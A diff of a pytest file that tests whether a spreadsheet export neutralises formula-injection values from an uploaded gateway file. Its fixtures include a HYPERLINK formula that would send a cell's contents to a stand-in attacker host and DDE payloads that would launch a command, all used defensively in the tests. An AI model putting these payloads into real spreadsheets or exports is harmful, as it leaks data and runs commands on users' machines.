@@ -14,8 +14,8 @@ import pytest
 
 from app.text import spreadsheet_cell
 from tests.factories import bill, make_account, make_client
-from tests.test_reconciliation import DAY, URL, sandbox_csv, upload
-from tests.test_reconciliation import world as world  # noqa: F401  (fixture)
+from tests.test_reconciliation import URL, sandbox_csv, upload
+from tests.test_reconciliation import world as world  # the fixture
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
 HOSTILE = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]
@@ -124,4 +124,3 @@ async def test_rows_of_an_uploaded_gateway_file_are_neutralised_in_the_export(
     assert by_line["2"]["provider_transaction_id"] == "'@SUM(1+1)"
     assert by_line["2"]["their_amount"] == "50000"
     assert by_line["3"]["provider_transaction_id"] == "'-2+3"
-    assert DAY
